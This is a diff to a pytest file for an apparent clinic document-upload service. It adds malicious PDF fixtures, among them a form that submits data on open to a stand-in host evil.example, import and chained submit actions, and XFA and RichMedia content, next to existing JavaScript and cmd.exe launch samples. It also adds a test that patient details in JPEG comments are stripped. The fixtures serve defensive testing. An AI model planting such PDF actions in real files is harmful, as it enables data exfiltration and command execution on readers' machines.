@@ -7,7 +7,7 @@ from __future__ import annotations
 import io
 
 import pytest
-from PIL import Image
+from PIL import Image, ImageCms
 
 from clinic360.extensions import db
 from clinic360.models import Document, Role
@@ -91,6 +91,13 @@ SCRIPTED = {
     ),
     "page additional action": make_pdf(b"/AA<</O<</S/JavaScript/JS(this.print())>>>>"),
     "launch action": make_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
+    "XFA form": make_pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"<</Length 0>>stream\n\nendstream"),
+    "rich media": make_pdf(b"/Names<</X 4 0 R>>", b"<</Subtype/RichMedia/RichMediaContent<<>>>>"),
+    "submit on open": make_pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example/c)>>"),
+    "import on close": make_pdf(b"/AA<</WC<</S/ImportData/F(data.fdf)>>>>"),
+    "submit chained": make_pdf(
+        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", b"<</S/SubmitForm/F(x)>>"
+    ),
 }
 
 
@@ -168,3 +175,17 @@ def test_exif_and_gps_are_stripped_from_images(care, fmt, mime):
         assert image.size == (48, 64)  # turned upright as the orientation said
         assert image.convert("RGB").getpixel((10, 10)) == pytest.approx((200, 120, 40), abs=4)
     assert b"PhoneMaker" not in stored
+
+
+def test_a_jpeg_comment_does_not_survive_cleaning(care):
+    _, patient_user, _, patient, _ = care
+    with_profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    original = _image("JPEG", comment=b"Patient Jane Roe, DOB 1980", icc_profile=with_profile)
+    with Image.open(io.BytesIO(original)) as sent:
+        assert sent.info["comment"] == b"Patient Jane Roe, DOB 1980"
+    document = upload(patient, patient_user.id, original, "photo.jpg", "image/jpeg").get_json()
+    stored = patient.get(f"/api/documents/{document['id']}").data
+    assert b"Jane Roe" not in stored
+    with Image.open(io.BytesIO(stored)) as image:
+        assert "comment" not in image.info
+        assert image.info.get("icc_profile") == with_profile  # the colours are kept
